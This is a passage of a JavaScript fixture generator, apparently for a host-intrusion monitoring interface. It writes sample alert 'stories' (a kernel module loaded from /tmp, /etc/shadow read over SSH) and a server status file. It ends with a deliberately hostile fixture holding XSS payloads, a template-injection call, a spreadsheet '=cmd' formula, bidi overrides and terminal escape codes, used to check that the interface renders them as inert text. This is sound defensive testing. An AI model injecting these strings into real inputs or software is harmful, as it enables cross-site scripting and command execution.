  spark: Array.from({ length: 12 }, (_, i) => (i * sig * 7) % 9),
  ...more,
});
const stories = [
  summary(story, [0, 0, 1, 9, 4, 1, 1, 2, 6, 3, 2, 2]),
  other(
    "st_4c81ap20ql7m",
    61,
    "high",
    "New kernel module loaded from /tmp",
    "insmod, started by root from a terminal, loaded /tmp/nv.ko; its package owner is unknown.",
    3600,
    "under_review",
    2,
    ["Persistence", "Privilege escalation"],
    "db-02",
  ),
  other(
    "st_70mm3b1ck0aa",
    47,
    "high",
    "SSH session from a new address read the password database",
    "198.51.100.80 logged in as deploy and read /etc/shadow through sudo.",
    7100,
    "open",
    4,
    ["Initial access", "Credential access"],
    "bastion",
  ),
  other(
    "st_b0v8fz91tn3q",
    31,
    "medium",
    "Package manager ran in container api",
    "sh in container api ran apt-get install curl; this happened on 12 of 12 pods.",
    9000,
    "open",
    12,
    ["Execution"],
    "web-03",
    { where: { hosts: ["web-03"], containers: ["api"], users: ["root"] } },
  ),
  other(
    "st_f6ds28xk11p0",
    18,
    "low",
    "Login shell changed for one account",
    "usermod, run by ansible, changed the shell of backup to /usr/sbin/nologin.",
    16000,
    "open",
    1,
    ["Persistence"],
    "web-01",
  ),
  other(
    "st_0hh4yq6wq2b8",
    7,
    "info",
    "Watched file read by a backup program",
    "restic read /etc/sudoers from its own timer.",
    40000,
    "archived",
    1,
    [],
    "web-02",
  ),
];
write("stories.json", {
  items: stories,
  nextCursor: "",
  total: { value: String(stories.length), exact: true },
  asOf: at(237),
});
write("stories-empty.json", { items: [], nextCursor: "", total: { value: "0", exact: true }, asOf: at(237) });

write("status.json", {
  ok: true,
  reason: "",
  version: "0.1.0",
  asOf: at(237),
  server: {
    pid: 4711,
    uid: 990,
    startedAt: at(-600),
    listen: "127.0.0.1:8844",
    events: "48211",
    stories: "6",
    storeBytes: "9912320",
  },
  agents: [
    {
      id: "3f0d2c1e-7b0a-4f57-9c40-1f0f6f0f2a11",
      host: "web-01",
      pid: 4700,
      mode: "replay",
      status: "ok",
      kernel: "6.1.0",
      version: "0.1.0",
      lastSeen: at(237),
      canaryAt: at(230),
      lost: "214",
      spoolRecords: "0",
      run: "a1",
      recording: true,
      done: true,
      rulesLoaded: 20,
      ruleProblems: [],
      reason: "this machine gives no access to its kernel",
    },
  ],
  recording: true,
});

// Text as an attacker would choose it: it has to stay text.
const hostile = structuredClone(story);
hostile.id = "st_hostile00000";
hostile.title = "<script>alert(1)</script> \u202Egnp.exe \u001b[31mred\u001b[0m zero\u200bwidth";
hostile.sentence = [
  span("<img src=x onerror=alert(1)>", "p_sh"),
  span(" then \u0007bell \u2066isolate\u2069 and {{constructor.constructor('alert(1)')()}}"),
];
hostile.graph.nodes.find((n) => n.id === "p_sh").label = "\u202E\u001b]0;owned\u0007<b>sh</b>\nsecond line";
hostile.graph.nodes
  .find((n) => n.id === "p_upd")
  .attributes.find((a) => a.field === "process.args").value = `=cmd|' /C calc'!A0 ${"A".repeat(65_536)}`;
hostile.timeline.items[1].text = [span("javascript:alert(1) \u200b\u200d\ufeff\u2028end")];
write("story-hostile.json", { story: hostile });
